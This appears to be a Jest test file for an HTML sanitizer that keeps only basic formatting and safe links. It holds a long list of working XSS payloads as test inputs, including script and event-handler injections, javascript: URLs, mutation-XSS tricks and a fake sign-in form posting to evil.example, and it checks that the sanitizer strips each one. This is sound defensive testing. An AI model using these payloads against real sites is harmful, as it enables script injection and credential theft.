import { describe, expect, it } from '@jest/globals'
import { sanitize } from './sanitize.ts'

function sanitizedHtml(html: string): string {
  const box = document.createElement('div')
  box.append(sanitize(html))
  return box.innerHTML
}

const LINK = (href: string, text: string) => `<a href="${href}" rel="noopener noreferrer">${text}</a>`

describe('sanitize', () => {
  it.each([
    ['<p>One<br>two <b>b</b> <strong>s</strong> <i>i</i> <em>e</em></p>', undefined],
    ['<ul><li>A</li></ul><ol><li>B</li></ol>', undefined],
    ['<a href="https://example.com/a?b=1">x</a>', LINK('https://example.com/a?b=1', 'x')],
    ['<a href="mailto:a@example.com">x</a>', LINK('mailto:a@example.com', 'x')],
    ['<a href="tel:+358">x</a>', LINK('tel:+358', 'x')],
    ['<a href="/shop/centrum/menu">x</a>', LINK('/shop/centrum/menu', 'x')],
    ['<a href="#top">x</a>', LINK('#top', 'x')],
    // Other formatting loses its tags and keeps its text.
    ['<h1>Closed</h1><table><tr><td>a</td></tr></table>', 'Closeda'],
    ['<p class="x" id="y" title="z" lang="sv" data-a="1" aria-label="b">x</p>', '<p>x</p>'],
    ['<a href="https://e.com" target="_blank" rel="opener" ping="/p" download>x</a>', LINK('https://e.com', 'x')],
  ])('reduces %s to its allowed formatting', (given, left = given) => expect(sanitizedHtml(given)).toBe(left))
})

// Attacks by markup, each with the allowed result.
const HOSTILE: readonly (readonly [html: string, left: string])[] = [
  ['<script>alert(1)</script>', ''],
  ['<SCRIPT SRC=//evil.example/x.js></SCRIPT>', ''],
  ['<scr<script>ipt>alert(1)</script>', 'ipt&gt;alert(1)'],
  ['<img src=x onerror=alert(1)>', ''],
  ['<img/src="x"/onerror=alert(1)//', ''],
  ['<svg onload=alert(1)>', ''],
  ['<svg><script>alert(1)</script></svg>', ''],
  ['<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', ''],
  ['<svg><animate attributeName=href values=javascript:alert(1) /></svg>', ''],
  ['<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>', ''],
  ['<a href="javascript:alert(1)">x</a>', 'x'],
  ['<a href="JaVaScRiPt:alert(1)">x</a>', 'x'],
  ['<a href="java\tscript:alert(1)">x</a>', 'x'],
  ['<a href="java&#10;script:alert(1)">x</a>', 'x'],
  ['<a href="&#106;avascript:alert(1)">x</a>', 'x'],
  ['<a href=" \u0001javascript:alert(1)">x</a>', 'x'],
  ['<a href="vbscript:x">x</a>', 'x'],
  ['<a href="data:text/html,<script>alert(1)</script>">x</a>', 'x'],
  ['<a href="blob:https://e.com/1">x</a>', 'x'],
  ['<a href="//evil.example">x</a>', 'x'],
  ['<a href="/\\evil.example">x</a>', 'x'],
  ['<a href="/&#9;/evil.example">x</a>', 'x'],
  ['<a href="https:javascript:alert(1)">x</a>', 'x'],
  ['<a name="app">x</a>', 'x'],
  ['<b onclick="alert(1)" onmouseover=alert(1)>x</b>', '<b>x</b>'],
  ['<b style="background:url(javascript:alert(1))">x</b>', '<b>x</b>'],
  ['<style>*{display:none}</style>x', 'x'],
  ['<link rel=stylesheet href=//evil.example>x', 'x'],
  ['<meta http-equiv=refresh content="0;url=//evil.example">x', 'x'],
  ['<base href="//evil.example">x', 'x'],
  ['<iframe src="javascript:alert(1)"></iframe>', ''],
  ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', ''],
  ['<object data="x.swf"><embed src="x.swf"></object>', ''],
  ['<form action="//evil.example"><input name=password><button>Sign in</button></form>', 'Sign in'],
  ['<input autofocus onfocus=alert(1)>', ''],
  ['<details open ontoggle=alert(1)>x</details>', 'x'],
  ['<video><source onerror=alert(1)></video>', ''],
  ['<template><script>alert(1)</script></template>', ''],
  ['<template shadowrootmode="open"><b>x</b></template>', ''],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<p></p>'],
  ['<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', ''],
  ['<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', '<p></p>"&gt;'],
  ['<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', ''],
  ['<p id="x" name="getElementById">x</p>', '<p>x</p>'],
  ['<a href="https://e.com/"onmouseover=alert(1)//">x</a>', LINK('https://e.com/', 'x')],
  ["<b title='\"><img src=x onerror=alert(1)>'>x</b>", '<b>x</b>'],
  ['<!--><img src=x onerror=alert(1)>-->', '--&gt;'],
  ['<![CDATA[<img src=x onerror=alert(1)>]]>', ']]&gt;'],
  ['<?xml version="1.0"?><b>x</b>', '<b>x</b>'],
  ['<x-evil onclick=alert(1) is="x">x</x-evil>', 'x'],
  ['\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}', '\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}'],
  ['<b>\u202Egnp.exe</b>', '<b>\u202Egnp.exe</b>'],
  ['<b>\u0000x</b>', '<b>x</b>'],
  ['{{constructor.constructor("alert(1)")()}}', '{{constructor.constructor("alert(1)")()}}'],
]

const TAGS = new Set(['P', 'BR', 'B', 'STRONG', 'I', 'EM', 'UL', 'OL', 'LI', 'A'])

describe('sanitize with hostile markup (ATTACK-26)', () => {
  it.each(HOSTILE)('removes all that is dangerous from %j', (html, left) => expect(sanitizedHtml(html)).toBe(left))

  it.each(HOSTILE.map(([html]) => html))(
    'keeps only allowed tags and attributes of %j, also after the browser parses the result again',
    (html) => {
      const page = document.createElement('div')
      page.innerHTML = sanitizedHtml(html)
      for (const element of page.querySelectorAll('*')) {
        expect(TAGS).toContain(element.tagName)
        const attributes = element.getAttributeNames()
        expect(attributes).toEqual(element.tagName === 'A' ? ['href', 'rel'] : [])
        expect(element.getAttribute('href') ?? '/').toMatch(/^(https?:\/\/|mailto:|tel:|\/(?![/\\])|#)/)
      }
      expect(sanitizedHtml(page.innerHTML)).toBe(page.innerHTML)
    },
  )
})
